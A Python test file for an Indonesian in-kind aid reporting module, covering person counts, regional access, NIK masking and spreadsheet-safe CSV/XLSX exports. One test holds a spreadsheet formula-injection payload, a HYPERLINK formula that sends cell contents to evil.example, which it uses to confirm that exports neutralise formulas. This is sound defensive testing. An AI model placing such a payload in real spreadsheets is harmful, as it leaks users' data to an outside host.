"""The in-kind realisation report, on SQLite and PostgreSQL: distinct persons against
distributions, regions by level, the reader's region, masking, and exports a spreadsheet
never runs as formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from aid_helpers import OUTSIDER, OUTSIDER_2, row, run_aid_import, write_file
from conftest import user
from factories import OTHER_VILLAGE, family, write_batch
from helpers import run_import
from lumbung.aid import catalog, export, report, views
from lumbung.db import session_scope
from lumbung.errors import NotFound, PermissionDenied, ValidationFailed
from lumbung.spreadsheets import safe_cell

pytestmark = pytest.mark.usefixtures("users")

BANDUNG_NIK = "3273010505700003"


def loaded(engine: Engine, tmp_path: Path) -> None:
    """Two devices to one person (Gambir), one to another (Gambir), relief in Bandung."""
    run_aid_import(
        engine,
        write_file(
            tmp_path / "jakarta.csv",
            [
                row(),  # kursi_roda 2,500,000
                row(item="kruk", quantity="2", unit_value_idr=""),  # 2 x 400,000
                row(
                    nik=OUTSIDER_2,
                    name="SRI",
                    program="INDONESIA_MENDENGAR",
                    item="alat_bantu_dengar",
                    unit_value_idr="",
                ),  # 3,000,000
            ],
        ),
    )
    run_aid_import(
        engine,
        write_file(
            tmp_path / "bandung.csv",
            [
                row(
                    nik=BANDUNG_NIK,
                    name="ASEP",
                    program="TAGANA",
                    item="tenda",
                    unit_value_idr="",
                    village_code=OTHER_VILLAGE,
                ),
                row(
                    nik=BANDUNG_NIK,
                    name="ASEP",
                    program="TAGANA",
                    item="selimut",
                    quantity="4",
                    unit_value_idr="",
                    village_code=OTHER_VILLAGE,
                ),
                # The same person as in Jakarta, relief in Bandung: one person nationally.
                row(program="TAGANA", item="kasur", unit_value_idr="", village_code=OTHER_VILLAGE),
            ],
        ),
    )


def realisation(engine: Engine, who: str, **options: str | None) -> report.InkindReport:
    with session_scope(engine) as session:
        return report.realisation(session, user(session, who), **options)


def test_persons_are_distinct_and_distributions_count_every_handover(
    engine: Engine, tmp_path: Path
) -> None:
    loaded(engine, tmp_path)
    found = realisation(engine, "auditor")
    assert (found.persons, found.distributions) == (3, 6)
    assert found.quantity == 1 + 2 + 1 + 1 + 4 + 1
    assert found.value_idr == 2_500_000 + 800_000 + 3_000_000 + 3_500_000 + 4 * 75_000 + 400_000
    body = found.as_dict()
    assert body["programs"]["INDONESIA_MELANGKAH"] == {
        "persons": 1,
        "distributions": 2,
        "quantity": 3,
        "value_idr": 3_300_000,
    }
    assert body["programs"]["TAGANA"]["persons"] == 2
    assert body["programs"]["TAGANA"]["distributions"] == 3
    # Per program, persons add up to more than the whole: one person in two programs.
    assert sum(p["persons"] for p in body["programs"].values()) == 4 > body["persons"]
    assert found.level == "province"
    rows = {(r.program, r.region_code): (r.persons, r.distributions) for r in found.rows}
    assert rows == {
        ("INDONESIA_MELANGKAH", "31"): (1, 2),
        ("INDONESIA_MENDENGAR", "31"): (1, 1),
        ("TAGANA", "32"): (2, 3),
    }
    assert "dihitung sekali" in found.labels["persons"]
    assert "dua kali" in found.labels["distributions"]
    assert all(isinstance(v, int) for v in (found.value_idr, found.quantity))


def test_levels_and_a_program(engine: Engine, tmp_path: Path) -> None:
    loaded(engine, tmp_path)
    villages = realisation(engine, "admin", level="village", program="TAGANA")
    assert [(r.region_code, r.region_name) for r in villages.rows] == [
        ("32.73.01.1001", villages.rows[0].region_name)
    ]
    assert villages.rows[0].region_name and villages.persons == 2
    by_default = realisation(engine, "admin", region="31.71")
    assert by_default.level == "district"
    assert {r.region_code for r in by_default.rows} == {"31.71.01"}
    # A level above the region read is the region's own.
    assert realisation(engine, "admin", region="31.71", level="province").level == "regency"
    with pytest.raises(ValidationFailed):
        realisation(engine, "admin", level="rt")


def test_a_reader_sees_only_their_region(engine: Engine, tmp_path: Path) -> None:
    loaded(engine, tmp_path)
    jakarta = realisation(engine, "verifier")
    assert jakarta.region == "31.71" and (jakarta.persons, jakarta.distributions) == (2, 3)
    assert "TAGANA" not in jakarta.programs
    bandung = realisation(engine, "other_verifier")
    assert (bandung.persons, bandung.distributions) == (2, 3)
    with pytest.raises(PermissionDenied):
        realisation(engine, "verifier", region="32")
    with session_scope(engine) as session:
        listed = views.list_distributions(session, user(session, "other_verifier"))
        assert {d.village_code for d in listed.items} == {OTHER_VILLAGE}
        with pytest.raises(PermissionDenied):
            views.list_distributions(session, user(session, "operator"), region="32.73")


def test_a_registered_person_counts_in_their_familys_region(engine: Engine, tmp_path: Path) -> None:
    household, members = family(1)
    run_import(engine, write_batch(tmp_path / "batch", [household], members))
    head = str(members[0]["nik"])
    # Handed over at a Tagana post in Bandung by a national admin; the family is in Gambir.
    run_aid_import(
        engine,
        write_file(
            tmp_path / "k.csv",
            [
                row(
                    nik=head,
                    name="BUDI SANTOSO",
                    program="TAGANA",
                    item="tenda",
                    unit_value_idr="",
                    village_code=OTHER_VILLAGE,
                )
            ],
        ),
    )
    assert realisation(engine, "verifier").distributions == 1
    assert realisation(engine, "other_verifier").distributions == 0


def test_lists_mask_niks_for_everyone_and_names_for_auditors(
    engine: Engine, tmp_path: Path
) -> None:
    loaded(engine, tmp_path)
    with session_scope(engine) as session:
        verifier = views.list_distributions(session, user(session, "verifier"))
        auditor = views.list_distributions(session, user(session, "auditor"), nik=OUTSIDER)
    assert {d.name for d in verifier.items} == {"SUTRISNO", "SRI"}
    assert all(d.nik.startswith("3171" + "*" * 12) for d in verifier.items)
    assert auditor.total == 3 and {d.name for d in auditor.items} == {"S****O"}
    assert OUTSIDER not in str(auditor.as_dict())


def test_csv_and_xlsx_write_text_never_formulas(engine: Engine, tmp_path: Path) -> None:
    with session_scope(engine) as session:
        catalog.add_item(
            session,
            actor=user(session, "admin"),
            code="jerigen",
            label='=HYPERLINK("http://evil.example/?"&A1,"klik")',
            unit="@unit",
            unit_value_idr=50_000,
            programs=["TAGANA"],
        )
    run_aid_import(
        engine,
        write_file(tmp_path / "l.csv", [row(program="TAGANA", item="jerigen", unit_value_idr="")]),
    )
    found = realisation(engine, "admin")
    book = load_workbook(io.BytesIO(export.report_xlsx(found)))
    assert book.sheetnames == ["wilayah", "barang", "keterangan"]
    cells = [c for sheet in book.worksheets for line in sheet.iter_rows() for c in line]
    assert all(c.data_type != "f" for c in cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"klik")' in texts and "'@unit" in texts
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    numbers = [c.value for c in book["wilayah"]["G"][1:]]
    assert numbers and all(isinstance(v, int) for v in numbers)
    lines = list(csv.reader(io.StringIO(export.report_csv(found))))
    assert lines[0][:3] == ["program", "kode_wilayah", "nama_wilayah"]
    assert lines[1] == ["TAGANA", "31", "Daerah Khusus Ibukota Jakarta", "1", "1", "1", "50000"]
    for value in ("=1+1", "+62", "-1", "@x", "\tx", "\rx"):
        assert safe_cell(value) == "'" + value
    assert safe_cell("3171011203800011") == "3171011203800011"


def test_only_a_national_admin_extends_the_catalogue(engine: Engine) -> None:
    with session_scope(engine) as session:
        for who in ("operator", "verifier", "auditor", "determiner"):
            with pytest.raises(PermissionDenied):
                catalog.add_item(
                    session,
                    actor=user(session, who),
                    code="x_1",
                    label="X",
                    unit="unit",
                    unit_value_idr=1,
                    programs=["TAGANA"],
                )
        admin = user(session, "admin")
        with pytest.raises(ValidationFailed):
            catalog.add_item(
                session,
                actor=admin,
                code="Bad Code",
                label="X",
                unit="unit",
                unit_value_idr=1,
                programs=["TAGANA"],
            )
        with pytest.raises(NotFound):
            catalog.add_item(
                session,
                actor=admin,
                code="ok_code",
                label="X",
                unit="unit",
                unit_value_idr=1,
                programs=["PKH"],
            )
        item = catalog.add_item(
            session,
            actor=admin,
            code="kursi_roda_anak",
            label="Kursi roda anak",
            unit="unit",
            unit_value_idr=2_000_000,
            programs=["INDONESIA_MELANGKAH"],
        )
        assert item.programs == ["INDONESIA_MELANGKAH"]
        codes = [i.code for i in catalog.list_items(session, admin, program="INDONESIA_MELANGKAH")]
        assert "kursi_roda_anak" in codes and "tenda" not in codes
        shipped = {i.code for i in catalog.list_items(session, admin)}
        assert {
            "alat_bantu_dengar",
            "kacamata",
            "tongkat_adaptif",
            "kursi_roda",
            "walker",
            "kruk",
            "kaki_palsu",
            "tenda",
            "selimut",
            "paket_sembako",
            "kasur",
            "perlengkapan_dapur",
        } <= shipped
        assert [p.code for p in catalog.list_programs(session, admin)] == [
            "INDONESIA_MELANGKAH",
            "INDONESIA_MELIHAT",
            "INDONESIA_MENDENGAR",
            "TAGANA",
        ]
